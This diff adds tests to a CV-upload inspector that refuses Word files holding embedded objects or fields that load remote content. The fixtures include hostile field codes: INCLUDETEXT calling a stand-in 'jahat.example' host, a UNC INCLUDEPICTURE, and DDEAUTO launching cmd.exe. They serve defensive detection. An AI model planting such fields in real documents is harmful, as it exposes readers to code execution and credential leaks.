@@ -12,6 +12,7 @@ const MACROS = 'File CV berisi makro. Simpan tanpa makro atau sebagai PDF, lalu 
 const DAMAGED =
   'File CV rusak atau tidak dapat diperiksa. Simpan sebagai PDF, lalu unggah kembali.';
 const LOCKED = 'File CV terkunci dengan kata sandi. Hapus kata sandinya, lalu unggah kembali.';
+const EMBEDDED = 'File CV berisi objek tertanam. Simpan sebagai PDF, lalu unggah kembali.';
 const REMOTE = 'File CV memuat bagian dari internet. Simpan sebagai PDF, lalu unggah kembali.';
 
 let folder: string;
@@ -111,6 +112,89 @@ describe('macros', () => {
 
 it('a document behind a password is refused', async () => {
   expect(await inspect(makeDoc(['EncryptionInfo', 'EncryptedPackage']))).toBe(LOCKED);
+});
+
+describe('what lies in a document and is not looked into', () => {
+  const part = 'word/chunk.rtf';
+  it.each([
+    ['a piece of another kind', 'aFChunk', part],
+    ['an object of another program', 'oleObject', 'word/x.bin'],
+    ['a table of another program', 'package', 'word/x.xlsx'],
+    ['a control', 'control', 'word/activeX/activeX1.xml'],
+  ])('%s is refused', async (_name, kind, target) => {
+    const relationships = wordRelationship('rId7', kind, target);
+    expect(await inspect(makeDocx({ relationships, entries: { [target]: '<x/>' } }))).toBe(
+      EMBEDDED,
+    );
+  });
+
+  it('is refused by its folder, and in the text of a part', async () => {
+    expect(await inspect(makeDocx({ entries: { 'word/Embeddings/a.bin': 'x' } }))).toBe(EMBEDDED);
+    const inner =
+      '&lt;pkg:package xmlns:pkg="http://schemas.micro<!-- -->soft.com/office/2006/xmlPackage"/>';
+    expect(await inspect(makeDocx({ entries: { 'customXml/item1.xml': `<a>${inner}</a>` } }))).toBe(
+      EMBEDDED,
+    );
+  });
+
+  it('is refused in an older document', async () => {
+    const streams = ['WordDocument', 'ObjectPool', '_1541577328'];
+    expect(await inspect(makeDoc(streams))).toBe(EMBEDDED);
+  });
+});
+
+describe('fields that load', () => {
+  const field = '<w:p><w:fldSimple w:instr="INCLUDETEXT http://jahat.example/a.docx"/></w:p>';
+  const story = (name: string) =>
+    `<w:${name} xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${field}</w:${name}>`;
+  it.each(['document2', 'header1', 'footer3', 'footnotes', 'endnotes', 'comments'])(
+    'in word/%s.xml are refused',
+    async (name) => {
+      const entries = { [`word/${name}.xml`]: story('hdr') };
+      expect(await inspect(makeDocx({ entries }))).toBe(REMOTE);
+      expect(await inspect(makeDocx({ body: field }))).toBe(REMOTE);
+    },
+  );
+
+  it('are refused in a part that is called otherwise', async () => {
+    const relationships = wordRelationship('rId7', 'header', 'header1.txt');
+    const entries = { 'word/header1.txt': story('hdr') };
+    expect(await inspect(makeDocx({ relationships, entries }))).toBe(DAMAGED);
+  });
+
+  const unc = String.raw`INCLUDEPICTURE "\\\\10.0.0.1\\a.png"`;
+  it.each([
+    ['a picture of a server', unc],
+    ['a text of the web', 'includetext "http://jahat.example/a.doc"'],
+    ['a program', String.raw`DDEAUTO c:\\windows\\cmd.exe "/k calc"`],
+    ['an address that another field makes', 'INCLUDETEXT \u0013QUOTE 92 92'],
+  ])('in an older document are refused: %s', async (_name, code) => {
+    const text = `Siti \u0013 ${code}\u0014x\u0015`;
+    expect(await inspect(makeDoc(['WordDocument'], text))).toBe(REMOTE);
+    const narrow = Buffer.concat([makeDoc(), Buffer.from(text, 'latin1')]);
+    expect(await inspect(narrow)).toBe(REMOTE);
+    // Across two of the pieces in which the file is read.
+    const before = Buffer.alloc(64 * 1024 - 10 - makeDoc().length);
+    expect(await inspect(Buffer.concat([makeDoc(), before, Buffer.from(text, 'latin1')]))).toBe(
+      REMOTE,
+    );
+  });
+
+  it.each([
+    `Siti ${unc}`,
+    '\u0013 PAGE \u0014 http://example.com\u0015',
+    '\u0013 HYPERLINK "http://example.com"\u0014x\u0015',
+    '\u0013 INCLUDEPICTURE "C:\\\\foto.jpg" \u0014 http://example.com\u0015',
+  ])('in an older document are no text and no other field: %j', async (text) => {
+    expect(await inspect(makeDoc(['WordDocument'], text))).toBe('application/msword');
+  });
+
+  it('and an older document without objects keeps its empty place for them', async () => {
+    const document = makeDoc(['WordDocument', 'ObjectPool']);
+    const entry = document.indexOf(Buffer.from('ObjectPool', 'utf16le'));
+    document.writeUInt32LE(0xffffffff, entry + 0x4c);
+    expect(await inspect(document)).toBe('application/msword');
+  });
 });
 
 describe('what Word loads from elsewhere when it opens the document', () => {
